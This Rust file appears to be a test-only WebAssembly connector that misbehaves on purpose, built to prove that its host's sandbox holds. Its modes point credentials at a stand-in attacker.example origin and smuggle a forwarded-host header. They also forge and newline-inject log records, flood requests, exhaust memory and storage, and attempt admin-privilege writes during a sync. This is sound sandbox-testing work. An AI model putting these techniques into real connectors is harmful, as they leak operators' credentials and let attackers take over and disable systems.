//! A test-only connector component that misbehaves on request, to prove the host's sandbox:
//! `validate` does what the `probe-mode` config value says — report every config value it can
//! read, fetch an arbitrary URL, set its own `Authorization` header, allocate without bound, or
//! spin forever, trap, send requests without end, write a forged log record to stderr, or send
//! writes during a sync (it declares one read over POST and one change). Its metadata lies, as a hostile component
//! would: the origin field has a default pointing elsewhere, and two credentials (`api-token`,
//! `db-password`) are declared as plain fields used by no auth scheme. Never shipped; built by
//! `make test` only.

wit_bindgen::generate!({
    path: "../../../wit",
    // The connector world, plus direct access to stdout and stderr for the empty-writes mode
    // (Rust's standard library may skip an empty write).
    inline: "package probe:guest;
        world probe {
            include baton:connector/connector-world@0.4.0;
            import wasi:cli/stdout@0.2.12;
            import wasi:cli/stderr@0.2.12;
        }",
    world: "probe:guest/probe",
    generate_all,
});

use baton::connector::config;
use baton::connector::types::*;
use exports::baton::connector::connector::Guest;
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

struct Probe;

/// Config names the probe reports on, secret ones included (they must read as unset).
const REPORTED: [&str; 7] = ["hostname", "access-token", "username", "password", "api-token", "db-password", "probe-mode"];

/// What the probe declares it sends beyond GET and HEAD: a read over POST, the POST the
/// body-limit mode sends, and a change (which no plain call may send all the same).
const DECLARED: [(&str, &str, EgressAccess); 3] = [
    ("POST", "/rpc/json-rpc/confluenceservice-v2/getUser", EgressAccess::Read),
    ("POST", "/rest/api/user/current", EgressAccess::Read),
    ("POST", "/rest/api/admin/user", EgressAccess::Change),
];

/// One empty write, as the stream's contract asks (once `check-write` permits one, waiting for
/// the stream when it does not); whether it was taken.
fn empty_write(stream: &wasi::io::streams::OutputStream) -> bool {
    loop {
        match stream.check_write() {
            Ok(0) => stream.subscribe().block(),
            Ok(_) => return stream.write(&[]).is_ok(),
            Err(_) => return false,
        }
    }
}

/// How many empty writes the empty-writes mode makes to each stream.
const EMPTY_WRITES: usize = 200_000;

/// Where a lying component would like the operator's token to go.
const ATTACKER_ORIGIN: &str = "https://attacker.example";

impl Guest for Probe {
    fn get_metadata() -> Metadata {
        let field = |name: &str, secret: bool, required: bool| ConfigField {
            name: name.into(),
            description: format!("probe field {name}"),
            kind: FieldKind::Text,
            required,
            secret,
            default_value: (name == "hostname").then(|| ATTACKER_ORIGIN.to_string()),
            choices: Vec::new(),
        };
        Metadata {
            display_name: "Probe".into(),
            description: "test component".into(),
            config: vec![
                field("hostname", false, true),
                field("access-token", true, false),
                field("api-token", false, false),
                field("db-password", false, false),
                field("probe-mode", false, false),
                field("probe-url", false, false),
            ],
            rules: vec![ConfigRule { alternatives: vec![vec!["access-token".into()]] }],
            auth: Auth { origin_field: "hostname".into(), schemes: vec![AuthScheme::Bearer("access-token".into())] },
            capabilities: vec![],
            egress: DECLARED.iter().map(|(method, path, access)| EgressRule { method: method.to_string(), path: path.to_string(), access: *access }).collect(),
        }
    }

    fn validate() -> Result<String, ConnectorError> {
        let mode = config::get("probe-mode").unwrap_or_default();
        match mode.as_str() {
            "report-config" => Ok(report_config()),
            "fetch" => fetch(&config::get("probe-url").unwrap_or_default(), None),
            "scan-memory" => {
                // Read every value offered (the lying fields included) and make a request the
                // host answers with its credential attached, then look through all of this
                // instance's linear memory for canaries.
                let config = report_config();
                let control = config::get("probe-url").unwrap_or_default();
                let url = format!("{}/rest/api/user/current", config::get("hostname").unwrap_or_default());
                let fetched = fetch(&url, None).unwrap_or_default();
                let found = scan_memory_for_canaries();
                Ok(format!("{}; {}; {}; canaries {}", config.len(), control.len(), fetched.len(), found.join(",")))
            }
            // Requests a hostile component would send to the configured origin itself.
            "trace" => send(Method::Other("TRACE".into()), &origin_url(), &[], &[]),
            "smuggle" => send(Method::Get, &origin_url(), &[("x-forwarded-host", "attacker.example")], &[]),
            "big-post" => send(Method::Post, &origin_url(), &[("content-type", "application/json")], &vec![b' '; 5 << 20]),
            "hoard-kv" => {
                // 1 MiB values under new keys, far past any store cap a host should allow.
                let value = "x".repeat(1 << 20);
                for n in 0..1024 {
                    baton::connector::kv::set(&format!("hoard-{n}"), &value);
                }
                Ok("hoarded".into())
            }
            "forge-log" => {
                // A line that would read as the host's own log record if stderr were passed through.
                eprintln!(
                    r#"{{"timestamp":"2026-01-01T00:00:00Z","level":"INFO","fields":{{"message":"sync finished","forged":"yes"}},"target":"baton_sync"}}"#
                );
                Ok("probe".into())
            }
            "forge-log-import" => {
                // A record whose message and field start new lines that read as the host's own.
                baton::connector::log::write(
                    baton::connector::log::Level::Info,
                    "ok\n2026-01-01T00:00:00.000000Z  INFO baton_sync: sync finished forged=yes",
                    &[("note".to_string(), "v\r\n2026-01-01T00:00:00.000000Z  WARN baton_runner: tenant acme failed forged=yes".to_string())],
                );
                Ok("probe".into())
            }
            "flood-log" => {
                for n in 0..10_000 {
                    baton::connector::log::write(baton::connector::log::Level::Info, &format!("flood {n}"), &[]);
                }
                Ok("flooded".into())
            }
            "set-authorization" => {
                let url = format!("{}/rest/api/user/current", config::get("hostname").unwrap_or_default());
                fetch(&url, Some("Bearer stolen-by-guest"))
            }
            "allocate" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 8 << 20]);
                    if hoard.len() > 100_000 {
                        return Ok(format!("allocated {} chunks", hoard.len()));
                    }
                }
            }
            "spin" => {
                let mut x: u64 = 1;
                loop {
                    x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
                    if x == 0 {
                        return Ok("unreachable".into());
                    }
                }
            }
            "trap" => panic!("the probe traps on purpose"),
            "write-during-sync" => {
                // What a hostile component would do with the administrator's credential during
                // an ordinary sync: create a user, make someone System Administrator, delete
                // and patch, and POST to a path it did not declare; and one declared read.
                let origin = config::get("hostname").unwrap_or_default();
                let tries = [
                    (Method::Post, "/rest/api/admin/user"),
                    (Method::Put, "/rest/api/permissions"),
                    (Method::Delete, "/rest/api/user/admin/group/confluence-administrators"),
                    (Method::Patch, "/rest/api/user/admin"),
                    (Method::Post, "/rpc/json-rpc/confluenceservice-v2/addUser"),
                    (Method::Post, "/rpc/json-rpc/confluenceservice-v2/getUser"),
                ];
                let outcomes: Vec<String> = tries
                    .iter()
                    .map(|(method, path)| {
                        let body = br#"["admin"]"#;
                        let outcome = match send(method.clone(), &format!("{origin}{path}"), &[("content-type", "application/json")], body) {
                            Ok(answer) => answer,
                            Err(_) => "refused".to_string(),
                        };
                        format!("{method:?} {path} -> {outcome}")
                    })
                    .collect();
                Ok(format!("write-during-sync: {}", outcomes.join(" | ")))
            }
            "empty-writes" => {
                // Empty writes without end, to a request body and to stdout and stderr: each
                // one must cost the host nothing it keeps.
                let (pending, body) = start(Method::Post, &origin_url()).ok_or_else(|| ConnectorError::Internal("no request".into()))?;
                let stream = body.write().map_err(|()| ConnectorError::Internal("body stream".into()))?;
                let to_body = (0..EMPTY_WRITES).take_while(|_| empty_write(&stream)).count();
                drop(stream);
                let _ = OutgoingBody::finish(body, None);
                pending.subscribe().block();
                let stdout = wasi::cli::stdout::get_stdout();
                let to_stdout = (0..EMPTY_WRITES).take_while(|_| empty_write(&stdout)).count();
                let stderr = wasi::cli::stderr::get_stderr();
                let to_stderr = (0..EMPTY_WRITES).take_while(|_| empty_write(&stderr)).count();
                Ok(format!("empty-writes: {to_body} to a request body, {to_stdout} to stdout, {to_stderr} to stderr"))
            }
            "pending-posts" => {
                // Many requests at once, each body written almost to the 4 MiB limit from one
                // small buffer and none finished until all are written: the host would hold
                // them all.
                let url = origin_url();
                let chunk = [b' '; 4096];
                let mut started = Vec::new();
                for _ in 0..48 {
                    let Some((pending, body)) = start(Method::Post, &url) else { continue };
                    let written = match body.write() {
                        Ok(stream) => (0..950).take_while(|_| stream.blocking_write_and_flush(&chunk).is_ok()).count(),
                        Err(()) => 0,
                    };
                    started.push((pending, body, written));
                }
                let mut answered = 0;
                let mut refused = 0;
                for (pending, body, _) in started {
                    let _ = OutgoingBody::finish(body, None);
                    pending.subscribe().block();
                    match pending.get() {
                        Some(Ok(Ok(_))) => answered += 1,
                        _ => refused += 1,
                    }
                }
                Ok(format!("pending-posts: answered {answered}, refused {refused}"))
            }
            "flood" => {
                // As many requests to the configured origin as the host lets out, never stopping.
                let url = format!("{}/rest/api/user/current", config::get("hostname").unwrap_or_default());
                let mut sent: u64 = 0;
                loop {
                    let _ = fetch(&url, None);
                    sent += 1;
                    if sent == u64::MAX {
                        return Ok(format!("sent {sent}"));
                    }
                }
            }
            _ => Ok("probe".into()),
        }
    }

    fn resource_types() -> Result<Vec<ResourceType>, ConnectorError> {
        let lists = matches!(config::get("probe-mode").as_deref(), Some("big-page" | "endless-pages"));
        let thing =
            ResourceType { id: "thing".into(), display_name: "Thing".into(), description: String::new(), traits: vec![], skip_entitlements_and_grants: true };
        Ok(if lists { vec![thing] } else { vec![] })
    }

    fn list_resources(_: String, _: Option<ResourceId>, token: Option<String>) -> Result<ResourcePage, ConnectorError> {
        match config::get("probe-mode").as_deref() {
            // One page of 32 MiB: a single call handing the host more than it would hold.
            Some("big-page") => Ok(ResourcePage { items: vec![thing("big", "x".repeat(32 << 20))], next_page_token: None }),
            // Pages of a thousand things without end, each with a new token: a sync that would
            // fill the output's disk.
            Some("endless-pages") => {
                let page: u64 = token.and_then(|t| t.parse().ok()).unwrap_or(0);
                let items = (0..1000).map(|n| thing(&format!("{page}-{n}"), String::new())).collect();
                Ok(ResourcePage { items, next_page_token: Some((page + 1).to_string()) })
            }
            _ => Ok(ResourcePage { items: vec![], next_page_token: None }),
        }
    }

    fn get_resource(_: ResourceId, _: Option<ResourceId>) -> Result<Resource, ConnectorError> {
        Err(ConnectorError::Unimplemented("probe".into()))
    }

    fn list_entitlements(_: Resource, _: Option<String>) -> Result<EntitlementPage, ConnectorError> {
        Ok(EntitlementPage { items: vec![], next_page_token: None })
    }

    fn list_grants(_: Resource, _: Option<String>) -> Result<GrantPage, ConnectorError> {
        Ok(GrantPage { items: vec![], next_page_token: None })
    }

    fn grant_entitlement(_: Entitlement, _: Resource) -> Result<GrantResult, ConnectorError> {
        Err(ConnectorError::Unimplemented("probe".into()))
    }

    fn revoke_grant(_: Grant) -> Result<RevokeOutcome, ConnectorError> {
        Err(ConnectorError::Unimplemented("probe".into()))
    }

    fn create_account(_: AccountInfo) -> Result<CreateAccountOutcome, ConnectorError> {
        Err(ConnectorError::Unimplemented("probe".into()))
    }
}

/// Every `canary-...` word in this instance's linear memory (the needle is assembled at run
/// time, so the only copies found are the ones that came in from outside).
fn scan_memory_for_canaries() -> Vec<String> {
    let needle: Vec<u8> = ["can", "ary-"].concat().into_bytes();
    let size = core::arch::wasm32::memory_size(0) * 65536;
    let mut found = Vec::new();
    let mut addr = 8usize;
    while addr + needle.len() + 1 < size {
        // SAFETY: every address below memory_size is mapped linear memory of this instance.
        let at = |a: usize| unsafe { core::ptr::read_volatile(a as *const u8) };
        if (0..needle.len()).all(|i| at(addr + i) == needle[i]) {
            let word: String = (addr..size).map(at).take_while(|b| b.is_ascii_alphanumeric() || *b == b'-').map(char::from).take(48).collect();
            if word.len() > needle.len() && !found.contains(&word) {
                found.push(word);
            }
            addr += needle.len();
        } else {
            addr += 1;
        }
    }
    found
}

/// A resource of the probe's `thing` type.
fn thing(id: &str, description: String) -> Resource {
    Resource {
        id: ResourceId { resource_type: "thing".into(), resource: id.into() },
        parent: None,
        display_name: id.into(),
        description,
        status: Status::Enabled,
        user: None,
        group: None,
        profile: vec![],
        external_link: None,
    }
}

/// A URL on the configured origin.
fn origin_url() -> String {
    format!("{}/rest/api/user/current", config::get("hostname").unwrap_or_default())
}

fn report_config() -> String {
    REPORTED.iter().map(|name| format!("{name}={}", config::get(name).unwrap_or_else(|| "<unset>".into()))).collect::<Vec<_>>().join(";")
}

/// Starts a request of `method` to an absolute URL whose body the caller writes and finishes.
fn start(method: Method, url: &str) -> Option<(outgoing_handler::FutureIncomingResponse, OutgoingBody)> {
    let (scheme, rest) = url.split_once("://")?;
    let (authority, path) = rest.find('/').map(|i| (&rest[..i], &rest[i..])).unwrap_or((rest, "/"));
    let fields = Fields::from_list(&[("content-type".to_string(), b"application/json".to_vec())]).ok()?;
    let request = OutgoingRequest::new(fields);
    let _ = request.set_method(&method);
    let _ = request.set_scheme(Some(&if scheme == "https" { Scheme::Https } else { Scheme::Http }));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(path));
    let body = request.body().ok()?;
    let pending = outgoing_handler::handle(request, None).ok()?;
    Some((pending, body))
}

/// GETs an absolute URL; `Ok("status N; headers a,b")` (the answer's header names as the guest
/// sees them) or the error as the guest saw it.
fn fetch(url: &str, authorization: Option<&str>) -> Result<String, ConnectorError> {
    let extra: Vec<(&str, &str)> = authorization.map(|value| ("authorization", value)).into_iter().collect();
    send(Method::Get, url, &extra, &[])
}

/// Sends `method` to an absolute URL with extra headers and a body, as [`fetch`] answers.
fn send(method: Method, url: &str, extra_headers: &[(&str, &str)], body_bytes: &[u8]) -> Result<String, ConnectorError> {
    let (scheme, rest) = url.split_once("://").ok_or_else(|| ConnectorError::InvalidArgument(format!("bad url {url}")))?;
    let (authority, path) = rest.find('/').map(|i| (&rest[..i], &rest[i..])).unwrap_or((rest, "/"));
    let mut headers = vec![("accept".to_string(), b"application/json".to_vec())];
    headers.extend(extra_headers.iter().map(|(name, value)| (name.to_string(), value.as_bytes().to_vec())));
    let fields = Fields::from_list(&headers).map_err(|e| ConnectorError::Denied(format!("header refused: {e:?}")))?;
    let request = OutgoingRequest::new(fields);
    let scheme = if scheme == "https" { Scheme::Https } else { Scheme::Http };
    let _ = request.set_method(&method);
    let _ = request.set_scheme(Some(&scheme));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(path));
    let body = request.body().map_err(|()| ConnectorError::Internal("body".into()))?;
    // The request goes out first, so the host reads the body while it is written.
    let pending = outgoing_handler::handle(request, None).map_err(|e| ConnectorError::Denied(format!("{e:?}")))?;
    if !body_bytes.is_empty() {
        let stream = body.write().map_err(|()| ConnectorError::Internal("body stream".into()))?;
        for chunk in body_bytes.chunks(4096) {
            // A host that stops reading (the body is over its limit) ends the stream.
            if stream.blocking_write_and_flush(chunk).is_err() {
                break;
            }
        }
        drop(stream);
    }
    let _ = OutgoingBody::finish(body, None);
    pending.subscribe().block();
    match pending.get() {
        Some(Ok(Ok(response))) => {
            let names: Vec<String> = response.headers().entries().into_iter().map(|(name, _)| name).collect();
            Ok(format!("status {}; headers {}", response.status(), names.join(",")))
        }
        Some(Ok(Err(code))) => Err(ConnectorError::Denied(format!("{code:?}"))),
        _ => Err(ConnectorError::Internal("no response".into())),
    }
}

export!(Probe);
